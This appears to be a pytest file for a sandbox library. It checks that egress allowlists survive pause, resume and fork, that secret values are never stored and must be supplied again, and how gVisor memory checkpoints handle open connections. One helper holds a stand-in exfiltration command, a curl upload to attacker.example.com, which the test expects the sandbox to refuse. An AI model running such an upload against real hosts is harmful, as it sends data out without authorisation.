"""A paused, resumed or forked sandbox comes back with its egress policy; its secrets' values are
never kept (not in the registry, the snapshot, nor the proxy while it is paused): the caller
passes them again, and a resume or fork without them names the missing ones and changes nothing."""

from __future__ import annotations

import json
import os

import pytest

from warmbox import InvalidArgument, Lifecycle, Network, Sandbox, Secret, SecretsRequired, SnapshotUnsupported, State
from warmbox.engine.engine import Engine

pytestmark = pytest.mark.sandbox
CURL = "curl -sS --max-time 8 "
# on a microVM a resume or fork is a new VM from the memory image, in a new namespace with a new link
# gVisor: a memory pause; its link is made again before runsc restores it (a new namespace and address)
TIERS = pytest.mark.parametrize(
    "tier,template",
    [
        ("container", "shell"),
        ("gvisor", "shell"),
        pytest.param("microvm", None, marks=pytest.mark.microvm, id="microvm"),
    ],
)


def sh(sb, cmd: str, timeout: float = 40):
    return sb.commands.run(["/bin/bash", "-c", cmd], timeout=timeout)


def bearer(sb) -> str:
    r = sh(sb, f'{CURL} -H "Authorization: Bearer $OPENAI_API_KEY" https://api.test/headers')
    assert r.exit_code == 0, r.stderr
    return json.loads(r.stdout)["Authorization"]


def refused_upload(sb, world) -> None:
    r = sh(sb, f"{CURL} -k https://attacker.example.com/up -d x")
    assert r.exit_code != 0
    assert not world.log("attacker")


@TIERS
def test_policy_survives_pause_and_resume_secrets_given_again(net_home, world, tier, template):
    world.clear_logs()
    value = "sk-REAL-" + os.urandom(8).hex()
    engine = Engine.for_home(net_home)
    sb = Sandbox.create(
        tier=tier,
        template=template,
        network=Network(allow=["api.test"]),
        secrets={"OPENAI_API_KEY": Secret(value, hosts=["api.test"])},
        timeout=120,
        home=net_home,
    )
    try:
        before = sh(sb, "echo $OPENAI_API_KEY").stdout.strip()
        assert before.startswith("warmbox-secret-")
        memory = tier == "gvisor"  # a memory pause: the same processes come back
        if not memory:
            # not before a memory pause: a connection the client closed first lingers in gVisor's
            # TIME_WAIT (60 s), which runsc 2022 cannot save and which its /proc/net/tcp does not
            # list (the pause's check cannot see it): the proxy is checked after the resume instead
            assert bearer(sb) == f"Bearer {value}"
        sb.network.update(Network(allow=["api.test", "allowed.test"]))  # the update is what comes back
        if memory:
            sh(sb, "sleep 600 >/dev/null 2>&1 &")
        sb.pause(memory=memory)
        assert engine.registry.egress.link(sb.sandbox_id) is None  # paused: no link, nothing routed
        kept = engine.registry.egress.egress_of(sb.sandbox_id)
        assert "allowed.test" in kept and before in kept and value not in kept  # policy + placeholder only

        # without the value: a typed error naming it, and the sandbox stays paused, its record intact
        with pytest.raises(SecretsRequired) as e:
            Sandbox.resume(sb.sandbox_id, home=net_home)
        assert e.value.missing == ("OPENAI_API_KEY",) and "OPENAI_API_KEY" in str(e.value)
        with pytest.raises(SecretsRequired):
            Sandbox.connect(sb.sandbox_id, home=net_home)  # connect resumes a paused sandbox: same rule
        with pytest.raises(InvalidArgument, match="no secret named OTHER"):
            Sandbox.resume(sb.sandbox_id, secrets={"OPENAI_API_KEY": value, "OTHER": "x"}, home=net_home)
        assert engine.info(sb.sandbox_id)[0].state is State.PAUSED
        assert engine.registry.egress.egress_of(sb.sandbox_id) == kept

        rotated = "sk-ROTATED-" + os.urandom(8).hex()  # a plain value: the recorded hosts
        with Sandbox.resume(sb.sandbox_id, secrets={"OPENAI_API_KEY": rotated}, home=net_home) as back:
            assert back.sandbox_id == sb.sandbox_id
            assert "network" in back.timings
            # a fresh process (files-only resume on the container tier), or the one it had (a memory
            # resume), still sees the same placeholder...
            if memory:
                assert sh(back, "pgrep -x sleep").exit_code == 0
            assert sh(back, "echo $OPENAI_API_KEY").stdout.strip() == before
            # ...the proxy puts the value given now in for the secret's host...
            assert bearer(back) == f"Bearer {rotated}"
            # ...and the policy is the one it had when paused (updated): allowed.test works,
            # a host outside the allowlist stays refused
            r = sh(back, f"{CURL} http://allowed.test/hello.txt")
            assert r.exit_code == 0, r.stderr
            refused_upload(back, world)
            assert "allowed.test" in back.network.policy()
        assert engine.registry.egress.egress_of(sb.sandbox_id) == ""  # killed: the record went with it
    finally:
        sb.kill()


@TIERS
def test_fork_gets_policy_own_link_ca_log_and_needs_secrets(net_home, world, tier, template):
    world.clear_logs()
    value = "sk-ORIGIN-" + os.urandom(8).hex()
    engine = Engine.for_home(net_home)
    with Sandbox.create(
        tier=tier,
        template=template,
        network=Network(allow=["api.test"]),
        secrets={"OPENAI_API_KEY": Secret(value, hosts=["api.test"])},
        timeout=120,
        home=net_home,
    ) as sb:
        sh(sb, "echo origin > /workspace/mark")
        placeholder = sh(sb, "echo $OPENAI_API_KEY").stdout.strip()
        ca_origin = sh(sb, "tail -c 900 $SSL_CERT_FILE").stdout
        snap = sb.snapshot()
        assert value not in json.dumps(snap.__dict__, default=str)
        with pytest.raises(SecretsRequired) as e:
            Sandbox.create(from_snapshot=snap, timeout=120, home=net_home)
        assert e.value.missing == ("OPENAI_API_KEY",)
        with pytest.raises(InvalidArgument, match="network policy"):
            Sandbox.create(from_snapshot=snap, network="internet", timeout=120, home=net_home)
        forked_value = "sk-FORK-" + os.urandom(8).hex()
        with Sandbox.create(
            from_snapshot=snap, secrets={"OPENAI_API_KEY": forked_value}, timeout=120, home=net_home
        ) as fork:
            assert sh(fork, "cat /workspace/mark").stdout == "origin\n"
            assert sh(fork, "echo $OPENAI_API_KEY").stdout.strip() == placeholder
            assert bearer(fork) == f"Bearer {forked_value}"  # its own value...
            assert bearer(sb) == f"Bearer {value}"  # ...the origin's untouched
            refused_upload(fork, world)
            # its own link and address, its own CA, its own audit stream
            (a, _, _), (b, _, _) = (
                engine.registry.egress.link(sb.sandbox_id),
                engine.registry.egress.link(fork.sandbox_id),
            )
            assert a != b
            assert sh(fork, "tail -c 900 $SSL_CERT_FILE").stdout != ca_origin
            assert any(ev.host == "attacker.example.com" for ev in fork.network.log())
            assert not any(ev.host == "attacker.example.com" for ev in sb.network.log())


def test_auto_resume_without_secrets_is_a_typed_error(net_home, world):
    value = "sk-AUTO-" + os.urandom(8).hex()
    sb = Sandbox.create(
        tier="container",
        template="shell",
        network=Network(allow=["api.test"]),
        secrets={"OPENAI_API_KEY": Secret(value, hosts=["api.test"])},
        lifecycle=Lifecycle(auto_resume=True),
        timeout=120,
        home=net_home,
    )
    try:
        sb.pause()
        with pytest.raises(SecretsRequired) as e:
            sh(sb, "true")
        assert e.value.missing == ("OPENAI_API_KEY",)
        assert Engine.for_home(net_home).info(sb.sandbox_id)[0].state is State.PAUSED
        with Sandbox.resume(sb.sandbox_id, secrets={"OPENAI_API_KEY": value}, home=net_home) as back:
            assert bearer(back) == f"Bearer {value}"
    finally:
        sb.kill()


# the sandbox closes first: without the proxy's reset its socket stays in TIME_WAIT (> 8 s measured), which
# runsc 2022-12 cannot checkpoint: the memory pause failed and destroyed the sandbox, every time
CLOSE_FIRST = (
    'import socket; socket.create_connection(("10.239.0.1", 3128), timeout=5).close(); import time; time.sleep(0.5)'
)


def test_a_memory_pause_right_after_the_sandbox_closed_a_proxy_connection(net_home, world):
    sb = Sandbox.create(
        tier="gvisor", template="shell", network=Network(allow=["api.test"]), timeout=120, home=net_home
    )
    try:
        assert sb.commands.run(["python3", "-c", CLOSE_FIRST], timeout=30).exit_code == 0
        sh(sb, "sleep 600 >/dev/null 2>&1 &")
        sb.pause(memory=True)
        with Sandbox.resume(sb.sandbox_id, home=net_home) as back:
            assert sh(back, "pgrep -x sleep").exit_code == 0  # the same processes came back
    finally:
        sb.kill()


# a connection held open through the link: runsc 2022's checkpoint cannot save one (the save failed and
# the sandbox died with it), so the pause is refused typed and the sandbox runs on; runsc 2024 resets
# it at the save (--net-disconnect-ok): the pause ends paused, the holder sees its connection end
HOLD = """
import socket
s = socket.create_connection(("10.239.0.1", 3128), timeout=5)
print("open", flush=True)
s.settimeout(None)
try:
    print("closed", s.recv(1), flush=True)
except OSError as e:
    print("reset", e.errno, flush=True)
"""


@pytest.mark.parametrize("runsc", ["2022", "2024"])
def test_a_memory_pause_with_an_open_connection_is_refused_or_paused_never_destroyed(
    net_home, world, runsc, monkeypatch
):
    from warmbox.backends.gvisor import RUNSC_LOCAL, GvisorBackend

    backend = Engine.for_home(net_home).backend("gvisor")
    assert isinstance(backend, GvisorBackend)
    if runsc == "2024":
        monkeypatch.setattr(backend, "runsc", RUNSC_LOCAL)
    sb = Sandbox.create(
        tier="gvisor", template="shell", network=Network(allow=["api.test"]), timeout=120, home=net_home
    )
    try:
        assert backend.capabilities().checkpoint_saves_connections is (runsc == "2024")  # as the probe kept
        sb.files.write("/tmp/hold.py", HOLD)
        sh(sb, "python3 /tmp/hold.py >/tmp/hold.log 2>&1 & sleep 600 >/dev/null 2>&1 &")
        assert (
            sh(sb, "for i in $(seq 100); do grep -q open /tmp/hold.log && exit 0; sleep 0.1; done; exit 1").exit_code
            == 0
        )
        if runsc == "2022":
            with pytest.raises(SnapshotUnsupported, match=r"1 TCP connection\(s\) are open .* -> 10\.239\.0\.1:3128"):
                sb.pause(memory=True)
            assert Engine.for_home(net_home).info(sb.sandbox_id)[0].state is State.READY
            assert sh(sb, "cat /tmp/hold.log; pgrep -f hold.py").stdout.split()[0] == "open"  # untouched
            return
        sb.pause(memory=True)
        assert Engine.for_home(net_home).info(sb.sandbox_id)[0].state is State.PAUSED
        with Sandbox.resume(sb.sandbox_id, home=net_home) as back:
            assert sh(back, "pgrep -x sleep").exit_code == 0  # the same processes came back
            ended = "for i in $(seq 100); do grep -qE 'reset|closed' /tmp/hold.log && exit 0; sleep 0.1; done; exit 1"
            assert sh(back, ended).exit_code == 0, sh(back, "cat /tmp/hold.log").stdout
    finally:
        sb.kill()
